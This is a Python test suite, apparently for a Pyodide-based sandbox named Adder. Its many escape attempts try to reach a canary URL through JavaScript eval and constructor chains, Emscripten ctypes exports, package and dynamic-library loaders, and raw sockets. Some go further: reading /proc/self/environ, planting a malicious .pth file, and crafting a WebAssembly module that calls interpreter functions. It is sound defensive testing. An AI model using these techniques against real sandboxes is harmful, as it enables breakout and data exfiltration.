"""Attacks from inside the interpreter: whatever Pyodide, Emscripten and CPython hold that leads out of Python.

Each ``attack_`` is called with a URL of the canary's. Refused it is when it raises, or returns text that begins with
*refused*; everything else counts as reached. Where an attack would go on after it has returned, it waits.
"""

import asyncio
import contextlib
import ctypes
import gc
import importlib.abc
import socket
import sys
import urllib.request

import pyodide_js
from _pyodide._importhook import jsfinder
from pyodide.ffi import create_proxy, to_js

raw = jsfinder.jsproxies["js"]  # not the page's window, which `import js` gives, but the worker's own global object


def options(**values):
    return to_js(values, dict_converter=raw.Object.fromEntries)


def code(url):
    """JavaScript that would ask the canary, if it came to run."""
    return f"fetch({url!r}, {{mode: 'no-cors'}})"


def control_javascript(url):
    """The worker's JavaScript is in reach: what follows could go further if nothing stopped it."""
    assert raw.JSON.stringify(raw.Array.of(1, 2)) == "[1,2]"


# Code from text.


def attack_eval_of_the_worker(url):
    raw.eval(code(url))


def attack_run_js(url):
    from pyodide.code import run_js

    # Adder may give authors the page's own here, which has the page's authority and no more.
    found = run_js("typeof WorkerGlobalScope")
    if found == "undefined":
        return "refused: it is the page's eval"
    return run_js(code(url))


def chain(value, url):
    return value.constructor.constructor(code(url))()


def attack_constructor_of_an_array(url):
    chain(raw.Array.new(), url)


def attack_constructor_of_a_proxy(url):
    chain(raw.Proxy.new(raw.Object.new(), raw.Object.new()), url)


def attack_constructor_of_a_promise(url):
    # An instance would arrive as a future; its prototype has the same constructor.
    chain(raw.Reflect.get(raw.Promise, "prototype"), url)


def attack_constructor_of_an_exception(url):
    try:
        raw.JSON.parse("{")
    except BaseException as error:
        thrown = error
    chain(thrown.js_error if hasattr(thrown, "js_error") else thrown, url)


def attack_constructor_of_a_python_function_s_proxy(url):
    chain(create_proxy(lambda: None), url)


def attack_constructor_of_pyodide_s_api(url):
    chain(pyodide_js._api, url)


def attack_async_function_constructor(url):
    function = pyodide_js.loadPackage
    kinds = [raw.Object.getPrototypeOf(function)]
    if kinds[0].constructor.name != "AsyncFunction":
        asynchronous = [getattr(pyodide_js._api, name, None) for name in dir(pyodide_js._api)]
        kinds = [
            raw.Object.getPrototypeOf(each) for each in asynchronous if callable(each) and hasattr(each, "constructor")
        ]
        kinds = [kind for kind in kinds if kind.constructor.name == "AsyncFunction"]
    kinds[0].constructor(code(url))()


def attack_generator_function_constructor(url):
    made = create_proxy([1])
    found = raw.Reflect.apply(raw.Reflect.get(made, raw.Symbol.iterator), made, raw.Array.new())
    while is_proxy(found):
        for function in (
            getattr(found, "constructor", None),
            getattr(getattr(found, "constructor", None), "constructor", None),
        ):
            if getattr(function, "name", "") == "GeneratorFunction":
                function(code(url))().next()
                return None
        found = raw.Object.getPrototypeOf(found)
    return "refused: no generator is in reach"


def attack_reflect_construct_of_function(url):
    raw.Reflect.construct(raw.Function, to_js([code(url)]))()


async def attack_timer_with_text(url):
    raw.setTimeout(code(url), 0)
    await asyncio.sleep(0.3)
    return "refused: nothing said so, but the canary would"


async def attack_a_compiled_module_that_imports_the_worker_s_functions(url):
    """WebAssembly of the attacker's own is code that runs; what it may import is what JavaScript hands it: no more."""
    empty = bytes([0, 0x61, 0x73, 0x6D, 1, 0, 0, 0])
    await raw.WebAssembly.compile(to_js(empty))
    await raw.WebAssembly.instantiateStreaming(raw.fetch(url, options(mode="no-cors")))


# Emscripten's exports, through ctypes.

LIBRARY = ctypes.CDLL(None)


def control_ctypes(url):
    """C functions are in reach by their names."""
    LIBRARY.strlen.restype = ctypes.c_size_t
    assert LIBRARY.strlen(b"four") == 4


def attack_emscripten_run_script(url):
    LIBRARY.emscripten_run_script(code(url).encode())


def attack_emscripten_run_script_int(url):
    LIBRARY.emscripten_run_script_int(code(url).encode())


def attack_emscripten_run_script_string(url):
    LIBRARY.emscripten_run_script_string(code(url).encode())


async def attack_emscripten_async_run_script(url):
    LIBRARY.emscripten_async_run_script(code(url).encode(), 0)
    await asyncio.sleep(0.3)
    return "refused: nothing said so, but the canary would"


async def attack_emscripten_async_load_script(url):
    LIBRARY.emscripten_async_load_script(url.encode(), None, None)
    await asyncio.sleep(0.3)
    return "refused: nothing said so, but the canary would"


async def attack_emscripten_async_wget(url):
    LIBRARY.emscripten_async_wget(url.encode(), b"/tmp/loot", None, None)
    await asyncio.sleep(0.3)
    return "refused: nothing said so, but the canary would"


async def attack_emscripten_async_wget_data(url):
    LIBRARY.emscripten_async_wget_data(url.encode(), None, None, None)
    await asyncio.sleep(0.3)
    return "refused: nothing said so, but the canary would"


def attack_emscripten_wget(url):
    LIBRARY.emscripten_wget(url.encode(), b"/tmp/loot")
    with open("/tmp/loot", "rb"):
        return


def attack_emscripten_wget_data(url):
    size, buffer, error = ctypes.c_int(), ctypes.c_void_p(), ctypes.c_int()
    LIBRARY.emscripten_wget_data(url.encode(), ctypes.byref(buffer), ctypes.byref(size), ctypes.byref(error))
    if error.value:
        return f"refused: error {error.value}"


def attack_emscripten_fetch(url):
    attributes = ctypes.create_string_buffer(256)
    LIBRARY.emscripten_fetch_attr_init(attributes)
    LIBRARY.emscripten_fetch(attributes, url.encode())


def attack_emscripten_dlopen(url):
    LIBRARY.emscripten_dlopen(url.encode(), 2, None, None, None)


def attack_dlopen(url):
    ctypes.CDLL(url)


def attack_jsproxy_create(url):
    ctypes.pythonapi.JsProxy_create.restype = ctypes.py_object
    ctypes.pythonapi.JsProxy_create(1).eval(code(url))


def attack_run_js_from_c(url):
    LIBRARY.run_js(code(url).encode())


# Pyodide's and Emscripten's own loaders.


async def attack_load_binary_file(url):
    await pyodide_js._api.loadBinaryFile(url)


async def attack_async_load(url):
    await pyodide_js._module.asyncLoad(url)


async def attack_read_async(url):
    await pyodide_js._module.readAsync(url)


def attack_read_binary(url):
    pyodide_js._module.readBinary(url)


def attack_lazy_file(url):
    pyodide_js.FS.createLazyFile("/tmp", "lazy", url, True, False)
    with open("/tmp/lazy", "rb") as file:
        file.read()


async def attack_preloaded_file(url):
    done = asyncio.get_running_loop().create_future()
    good = create_proxy(lambda *_: done.set_result(None))
    bad = create_proxy(lambda *_: done.set_result("refused: error callback"))
    pyodide_js.FS.createPreloadedFile("/tmp", "preloaded", url, True, False, good, bad)
    return await done


async def attack_load_package(url):
    name = "loot-1.0-py3-none-any.whl"
    await pyodide_js.loadPackage(f"{url}/{name}")
    if "loot" not in pyodide_js.loadedPackages.to_py():
        return "refused: it is not loaded"


async def attack_load_package_from_another_index(url):
    pyodide_js._api.config.packageBaseUrl = url + "/"
    pyodide_js._api.config.indexURL = url + "/"
    await pyodide_js.loadPackage("micropip")
    import micropip  # noqa: F401


async def attack_load_dynamic_library(url):
    await pyodide_js._module.loadDynamicLibrary(url + ".so", options(loadAsync=True, **{"global": True}))


def attack_load_dynamic_library_now(url):
    pyodide_js._module.loadDynamicLibrary(url + ".so", options(loadAsync=False))


async def attack_load_dynamic_library_from_anywhere(url):
    """Without Pyodide's own objection to an address."""
    pyodide_js._module.locateFile = create_proxy(lambda path, *_: url + ".so")
    await pyodide_js._module.loadDynamicLibrary("loot.so", options(loadAsync=True, nodelete=True))


async def attack_dynlib_of_pyodide(url):
    await pyodide_js._api.loadDynlib(url + ".so", True)


def attack_micropip(url):
    import micropip  # noqa: F401


async def attack_unpack_from_the_network(url):
    response = await raw.fetch(url, options(mode="cors"))
    pyodide_js.unpackArchive(await response.arrayBuffer(), "zip")


# Python's own network. Should these ever reach something, then as requests of the page's.


async def attack_socket(url):
    host, port = url.split("/")[2].split(":")
    with socket.create_connection((host, int(port)), timeout=2) as line:
        line.sendall(b"GET / HTTP/1.0\r\n\r\n")
        await asyncio.sleep(0.5)
        if not line.recv(1):
            return "refused: nothing comes back"


async def attack_socket_without_blocking(url):
    host, port = url.split("/")[2].split(":")
    line = socket.socket()
    line.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        line.connect((host, int(port)))
    for _ in range(5):
        await asyncio.sleep(0.1)
        with contextlib.suppress(BlockingIOError):
            line.send(b"GET / HTTP/1.0\r\n\r\n")
    line.recv(1)


def attack_name_resolution(url):
    address = socket.getaddrinfo("canary.test", 80)[0][4][0]
    # Emscripten invents addresses: no resolver was asked.
    if address.startswith(("172.29.", "127.")):
        return f"refused: an invented address, {address}"


async def request_pyfetch(url):
    from pyodide.http import pyfetch

    await pyfetch(url)


def request_open_url(url):
    from pyodide.http import open_url

    open_url(url)


def request_urllib(url):
    urllib.request.urlopen(url, timeout=5)


def request_http_client(url):
    import http.client

    line = http.client.HTTPConnection(url.split("/")[2], timeout=2)
    line.request("GET", "/" + url.split("/", 3)[3])
    line.getresponse()


def attack_other_hosts_by_a_file_url(url):
    urllib.request.urlopen("file:///proc/self/environ").read()
    raise AssertionError("refused: there is a /proc, but it is Emscripten's")


# What the worker itself may do, and what a real origin would have.


def attack_open_the_host(url):
    raw.parent.document


def attack_shared_memory(url):
    memory = raw.WebAssembly.Memory.new(options(initial=1, maximum=1, shared=True))
    worker = raw.Worker.new("data:text/javascript,onmessage=()=>{}")
    worker.postMessage(memory)


def attack_shared_array_buffer(url):
    raw.SharedArrayBuffer.new(8)


async def attack_locks(url):
    """Where two interpreters could leave each other signs."""
    await raw.navigator.locks.query()


async def attack_storage_estimate(url):
    await raw.navigator.storage.estimate()


async def attack_usb(url):
    await raw.navigator.usb.getDevices()


async def attack_serial(url):
    await raw.navigator.serial.getPorts()


async def attack_hid(url):
    await raw.navigator.hid.getDevices()


def attack_notification(url):
    raw.Notification.new("Your computer is at risk")
    if raw.Notification.permission != "granted":
        return "refused: permission is " + raw.Notification.permission


async def attack_idbfs(url):
    fs = pyodide_js.FS
    raw.Reflect.get(fs.filesystems, "IDBFS")
    fs.mkdir("/idb")
    fs.mount(fs.filesystems.IDBFS, options(), "/idb")
    with open("/idb/loot", "w") as file:
        file.write("loot")
    done = asyncio.get_running_loop().create_future()
    fs.syncfs(False, create_proxy(lambda error: done.set_result(error)))
    error = await done
    if error is not None and error is not raw.undefined:
        return f"refused: {error}"


async def attack_opfs(url):
    root = await raw.navigator.storage.getDirectory()
    await root.getFileHandle("loot", options(create=True))


async def attack_mount_native_files(url):
    await pyodide_js.mountNativeFS("/native", await raw.navigator.storage.getDirectory())


def attack_mount_the_host_s_files(url):
    pyodide_js.mountNodeFS("/host", "/")


async def attack_caches(url):
    await (await raw.caches.open("loot")).put(url, raw.Response.new("loot"))


# Python's own insides: they lead to no more than what was tried above.

#: What the worker's global object must not have, nor anything that leads from it.
PRIVILEGED = ("chrome", "browser", "document", "parent", "opener", "frameElement")


def is_proxy(value):
    return hasattr(type(value), "js_id")


def attack_objects_of_the_collector(url):
    found = {}
    for holder in gc.get_objects():
        values = holder.values() if isinstance(holder, dict) else holder if isinstance(holder, (list, tuple)) else ()
        found |= {item.js_id: item for item in (holder, *values) if is_proxy(item)}
    assert len(found) > 5, found
    for item in found.values():
        for name in PRIVILEGED:
            if is_proxy(getattr(item, name, None)):
                return f"{name} of {item}"
    return f"refused: {len(found)} objects of JavaScript, and none leads out of the worker"


def attack_frames(url):
    frame = sys._getframe()
    names = set()
    while frame.f_back:
        frame = frame.f_back
        names |= {*frame.f_locals}
        for item in frame.f_locals.values():
            if is_proxy(item) and any(hasattr(item, name) for name in PRIVILEGED):
                return str(item)
    assert "bridge" in names, names
    return "refused: the frames lead to the bridge, which carries what the gatekeeper checks"


def attack_runtime_internals(url):
    """What Adder's own runtime holds: the bridge posts messages, which the gatekeeper checks, and has nothing else."""
    from adder.main import current

    bridge = current().channel._bridge
    assert "post" in dir(bridge)
    held = {name: getattr(bridge, name) for name in dir(bridge) if is_proxy(getattr(bridge, name, None))}
    for item in held.values():
        for name in (*PRIVILEGED, "port", "postMessage"):
            if hasattr(item, name):
                return f"{name} of {item}"
    try:
        window.no_such_thing()
    except Exception as error:
        trace = error.__traceback__
    while trace.tb_next:
        trace = trace.tb_next
        for item in trace.tb_frame.f_locals.values():
            if is_proxy(item) and item.js_id not in {raw.js_id, bridge.js_id} and hasattr(item, "postMessage"):
                return str(item)
    return f"refused: {sorted(held)}"


def attack_import_hooks(url):
    """A finder of the attacker's own sees what this interpreter imports, and serves only this interpreter."""
    seen = []

    class Finder(importlib.abc.MetaPathFinder):
        def find_spec(self, name, path=None, target=None):
            seen.append(name)

    sys.meta_path.insert(0, Finder())
    with contextlib.suppress(ImportError):
        import chrome  # noqa: F401
    assert seen == ["chrome"], seen
    for name in PRIVILEGED[:2]:
        with contextlib.suppress(ImportError):
            __import__(name)
            return name
    return "refused: there is nothing to import that leads out"


# A package that means harm, as far as packages go today.


def archive(files):
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as made:
        for name, text in files.items():
            made.writestr(name, text)
    return buffer.getvalue()


def attack_package_with_a_path_file(url):
    """Its ``.pth`` runs code, and that code is no more than any other of this interpreter."""
    import site

    code = "import js, sys; sys.evil = getattr(getattr(js, 'chrome', None), 'runtime', None)\n"
    unpacked = options(extractDir="/tmp/evil")
    pyodide_js.unpackArchive(to_js(archive({"evil.pth": code})), "zip", unpacked)
    site.addsitedir("/tmp/evil")
    if sys.evil is None:
        return "refused: it ran, and found no extension"


def attack_package_that_shadows_the_runtime(url):
    """A module of the attacker's own in the runtime's place: the gatekeeper stands where it stood."""
    with open("/tmp/shadow.zip", "wb") as file:
        file.write(archive({"channel.py": "import js\nfound = js.chrome.runtime.id\n"}))
    import adder

    adder.__path__.insert(0, "/tmp/shadow.zip")
    original = sys.modules.pop("adder.channel")
    try:
        importlib.import_module("adder.channel")
    finally:
        adder.__path__.pop(0)
        sys.modules["adder.channel"] = original


def native(symbol, pointer):
    """A side module whose constructor calls one C function of this interpreter with one pointer."""

    def number(value):
        out = b""
        while True:
            value, low = value >> 7, value & 0x7F
            if (value == 0 and not low & 0x40) or (value == -1 and low & 0x40):
                return out + bytes([low])
            out += bytes([low | 0x80])

    def text(value):
        return bytes([len(value)]) + value.encode()

    def section(kind, content):
        return bytes([kind, len(content)]) + content

    body = b"\0\x41" + number(pointer) + b"\x10\0\x0b"
    return (
        b"\0asm\1\0\0\0"
        + section(0, text("dylink.0") + b"\1\4\0\0\0\0")
        + section(1, b"\2\x60\1\x7f\0\x60\0\0")
        + section(2, b"\1" + text("env") + text(symbol) + b"\0\0")
        + section(3, b"\1\1")
        + section(7, b"\1" + text("__wasm_call_ctors") + b"\0\1")
        + section(10, b"\1" + bytes([len(body)]) + body)
    )


def load(name, symbol, pointer):
    path = f"/tmp/{name}.so"
    with open(path, "wb") as file:
        file.write(native(symbol, pointer))
    return ctypes.CDLL(path)


def control_native_module(url):
    """A native module of the attacker's own runs: what it may call are this interpreter's exports."""
    target = object()
    before = sys.getrefcount(target)
    load("counting", "Py_IncRef", id(target))
    assert sys.getrefcount(target) == before + 1


def attack_native_module_that_runs_javascript(url):
    load("script", "emscripten_run_script", ctypes.addressof(ctypes.create_string_buffer(code(url).encode())))


def attack_native_module_that_names_a_function_of_javascript(url):
    load("fetching", "fetch", ctypes.addressof(ctypes.create_string_buffer(url.encode())))


def attack_native_module_from_the_network(url):
    ctypes.CDLL(url + ".so")


def control_free(url):
    """An attack that succeeds is told."""
